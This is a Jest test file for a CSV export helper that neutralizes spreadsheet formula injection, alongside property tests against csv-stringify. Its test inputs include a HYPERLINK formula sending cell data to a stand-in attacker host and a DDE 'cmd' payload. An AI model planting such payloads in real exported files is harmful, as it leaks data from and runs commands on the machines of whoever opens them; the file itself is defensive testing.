import { describe, expect, it } from '@jest/globals';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { csvText, unescapeFormula } from './csv-output.util.js';

const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;
/** Text that begins like a formula now and then. */
const cell = fc
  .tuple(
    fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', "'", 'a', '1'),
    fc.string(),
  )
  .map(([a, b]) => a + b);

describe('csvText', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?d="&C2&D2,"Cliquez")',
      `"'=HYPERLINK(""http://attacker.example/?d=""&C2&D2,""Cliquez"")"`,
    ],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\uFF1D1+1', `'\uFF1D1+1`],
    ['Hélène', 'Hélène'],
    ['a=b', 'a=b'],
  ])('writes %j as %s: a formula-like cell gets a quote first, as OWASP describes', (value, written) => {
    expect(csvText([[value]], ',')).toBe(`${written}\n`);
  });

  it.each(['+15145550199', '-12.50', '-12,5', '+1', '42'])(
    'leaves the plain number %j as it is (a spreadsheet reads it as a number, never a formula)',
    (value) => {
      expect(csvText([[value]], ';')).toBe(`${value}\n`);
    },
  );

  it("writes every other cell exactly as csv-stringify's escape_formulas does", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        fc.constantFrom(',', ';', '\t'),
        (rows, delimiter) => {
          fc.pre(rows.every((row) => row.every((value) => !PLAIN_NUMBER.test(value))));
          expect(csvText(rows, delimiter)).toBe(stringify(rows, { delimiter, escape_formulas: true }));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('keeps numbers, booleans and empty cells as csv-stringify writes them', () => {
    expect(csvText([[-5, true, '', null, 'x']], ',')).toBe(stringify([[-5, true, '', null, 'x']], { delimiter: ',' }));
  });
});

describe('unescapeFormula', () => {
  it('gives back what csvText neutralized, and leaves every other cell alone', () => {
    fc.assert(
      fc.property(cell, (value) => {
        fc.pre(!value.startsWith("'"));
        const written = csvText([[value]], ',');
        const parsed = written.startsWith('"') ? written.slice(1, -2).replaceAll('""', '"') : written.slice(0, -1);
        expect(unescapeFormula(parsed)).toBe(value);
      }),
      { numRuns: 500 },
    );
    expect(unescapeFormula("'+1 514 555 0101")).toBe('+1 514 555 0101');
    expect(unescapeFormula("'quoted'")).toBe("'quoted'");
  });
});
